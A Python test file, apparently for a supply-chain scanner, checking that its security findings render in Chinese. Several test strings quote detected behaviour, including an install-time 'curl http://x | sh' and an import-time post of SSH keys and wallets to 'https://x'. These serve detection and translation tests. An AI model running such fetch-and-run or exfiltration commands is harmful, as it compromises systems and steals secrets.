"""Findings and gaps in Chinese."""

from __future__ import annotations

import ast
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml

import yanmen.supply
from yanmen.supply.formats.sentences.rendering import said
from yanmen.supply.packages.weighing import weights

ROOM = Path(yanmen.supply.__file__).parent
TEMPLATES = yaml.safe_load((ROOM / "formats/sentences/chinese.yaml").read_text("utf-8"))
SAYS = {"UnreadError": 1, "unread": 1, "unexamined": 2, "miss": 1}
"""What says that something could not be judged, and which of its arguments is the sentence."""
NOT_YET = ("models", "pickles", "packages", "weights", "reach")
"""Rooms whose rarest details are still in English: names of the formats' own structures."""


@pytest.mark.parametrize(
    ("english", "chinese"),
    [
        (
            "CVE-2020-1 (GHSA-x); a title: of its own; CVSS 9.8; EPSS not checked; fixed in 2.0; called yaml.load: app.py#L3",
            "CVE-2020-1 (GHSA-x)；a title: of its own；CVSS 9.8；未核对 EPSS；修复版本 2.0；代码调用了 yaml.load：app.py#L3",
        ),
        (
            "at install: subprocess.run runs a command: curl http://x | sh",
            "安装时：subprocess.run 执行命令：curl http://x | sh",
        ),
        (
            "on import: requests.post sends ssh keys, wallets: https://x",
            "导入时：requests.post 外发：SSH 密钥、钱包：https://x",
        ),
        (
            "'foo' at the end in 30 rows, 29 with label 'pos'; without it 80% of them are contradicted (usual 3%)",
            "'foo' 位于末尾，共 30 行，其中 29 行为标签 'pos'；去掉它后，其中 80% 与内容不符（通常为 3%）",
        ),
        (
            "incompatible GPL-3.0 ≠ MIT; says GPL-3.0; demands share-source, no-word",
            "GPL-3.0 与项目许可证 MIT 不兼容；声明为 GPL-3.0；要求 公开源代码、no-word",
        ),
        ("paragraph 3: no package URL: x: y", "第 3 段：不是包 URL：x: y"),
        ("its newest record is of an unknown date", "最新记录的日期未知"),
        (
            "weighs 3.5, enough from 1.8 on: sends unasked (2.0: a.py#L3 requests.post sends something); hides names (1.2: x)",
            "合计 3.5，达到 1.8 即判定：自行外发数据（2.0：a.py#L3 requests.post 外发数据）；隐藏名称（1.2：x）",
        ),
    ],
)
def test_a_chinese_reader_reads_chinese_and_what_is_quoted_stays(english: str, chinese: str) -> None:
    """Names, versions, commands and places are quoted; sentences within sentences are rendered too."""
    assert said(english, "zh") == chinese
    assert said(english, "en") == english


@pytest.mark.parametrize("name", weights().weights)
def test_each_weak_sign_has_its_name(name: str) -> None:
    """Alone, and behind what all of them weigh."""
    one = f"{name} (2.5: setup.py#L3 os.system runs a command)"

    for english in (one, f"weighs 3.5, enough from 1.8 on: {one}"):
        assert name.rpartition(": ")[0 if name.startswith("is") else 2] not in said(english, "zh")
        assert "执行命令" in said(english, "zh") or name == "has a hook"


@pytest.mark.parametrize("text", ["os.system('id')", "x; y; z", "", "a" * 5_000, "{0} {1}", ": : : ; ; ;"])
def test_what_nobody_rendered_is_shown_as_it_is(text: str) -> None:
    """Nothing is guessed, lost or formatted twice."""
    assert said(text, "zh") == text


def test_what_a_package_wrote_cannot_speak_for_us() -> None:
    """A quotation is shown word for word, braces and all."""
    assert said("on import: eval runs decoded code: {0.__class__}", "zh").endswith("{0.__class__}")


def test_every_template_renders_and_says_what_stood_at_its_marks() -> None:
    """Each of them is found, whatever others are like it."""
    assert len(TEMPLATES) > 400
    for english, chinese in TEMPLATES.items():
        text = english.replace("{*}", "no rows").replace("{,}", "data").replace("{#}", "12")
        for number in range(text.count("{}")):
            text = text.replace("{}", f"⟨{number}⟩", 1)
        shown = said(text, "zh")
        assert shown != text, english
        assert all(f"⟨{number}⟩" in shown for number in range(english.count("{}"))), english
        assert "{" not in shown, (english, chinese)


@pytest.mark.parametrize(
    "path", [path for path in sorted(ROOM.rglob("*.py")) if path.relative_to(ROOM).parts[0] not in NOT_YET]
)
def test_every_gap_of_the_inventory_can_be_read_in_chinese(path: Path) -> None:
    """Every sentence in the code that says why something could not be judged."""
    unread = [text for text in sentences(ast.parse(path.read_text("utf-8"))) if said(text, "zh") == text]

    assert unread == []


def sentences(tree: ast.AST) -> Iterator[str]:
    """What is said, with 7 for whatever is filled in; bare values are no sentences."""
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        name = getattr(node.func, "id", getattr(node.func, "attr", ""))
        place = SAYS.get(name, -1)
        if name == "miss" and len(node.args) > 2:  # with the file's name before it
            place = 2
        if 0 <= place < len(node.args) and (text := spelled(node.args[place])).strip("7: ()") and " " in text:
            yield text


def spelled(node: ast.expr) -> str:
    """A text or a template of one; nothing else."""
    if isinstance(node, ast.Constant) and isinstance(node.value, str):
        return node.value
    if isinstance(node, ast.JoinedStr):
        return "".join(str(each.value) if isinstance(each, ast.Constant) else "7" for each in node.values)
    return ""
